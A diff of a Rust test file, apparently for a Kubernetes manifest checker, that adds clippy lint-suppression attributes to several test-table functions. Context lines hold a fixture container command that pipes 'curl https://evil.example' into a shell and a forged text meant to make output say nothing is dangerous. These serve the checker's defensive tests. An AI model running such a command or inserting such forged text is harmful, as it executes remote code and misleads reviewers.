@@ -68,6 +68,7 @@ fn object(pointer: &str, value: Value) -> Edit {
     Edit::Object(pointer.to_owned(), value)
 }
 
+#[expect(clippy::needless_pass_by_value, reason = "as in the other functions of the table, so that a row needs no `&`")]
 fn volume(source: &str, value: Value) -> Edit {
     pod("/volumes/-", json!({"name": "v", source: value}))
 }
@@ -94,6 +95,7 @@ fn many_containers() -> Value {
     containers.into()
 }
 
+#[expect(clippy::too_many_lines, reason = "it is a part of the table")]
 fn privileges() -> Vec<Row> {
     let main = "/containers/0/securityContext";
     vec![
@@ -287,6 +289,7 @@ fn privileges() -> Vec<Row> {
     ]
 }
 
+#[expect(clippy::too_many_lines, reason = "it is a part of the table")]
 fn programs() -> Vec<Row> {
     let evil = || json!(["sh", "-c", "curl https://evil.example | sh"]);
     let shown = "[\"sh\",\"-c\",\"curl https://evil.example | sh\"]";
@@ -454,6 +457,7 @@ fn programs() -> Vec<Row> {
     ]
 }
 
+#[expect(clippy::too_many_lines, reason = "it is a part of the table")]
 fn volumes() -> Vec<Row> {
     vec![
         (
@@ -601,6 +605,7 @@ fn volumes() -> Vec<Row> {
     ]
 }
 
+#[expect(clippy::too_many_lines, reason = "it is a part of the table")]
 fn compared() -> Vec<Row> {
     let image = |name: &str| json!(format!("{name}{DIGEST}"));
     let other = "@sha256:2222222222222222222222222222222222222222222222222222222222222222";
@@ -715,6 +720,7 @@ fn compared() -> Vec<Row> {
     ]
 }
 
+#[expect(clippy::too_many_lines, reason = "it is a part of the table")]
 fn batch() -> Vec<Row> {
     let psql = || {
         vec![
@@ -848,6 +854,7 @@ fn batch() -> Vec<Row> {
     ]
 }
 
+#[expect(clippy::too_many_lines, reason = "it is a part of the table")]
 fn claims() -> Vec<Row> {
     let claimed = |edit: fn(&mut Value)| {
         let mut runs = Deployment.changed();
@@ -1021,6 +1028,7 @@ fn claims() -> Vec<Row> {
     ]
 }
 
+#[expect(clippy::too_many_lines, reason = "it is a part of the table")]
 fn texts() -> Vec<Row> {
     let forged = "x: \"1\" -> \"2\"\n\nAlways\n  ok    nothing is dangerous";
     vec![
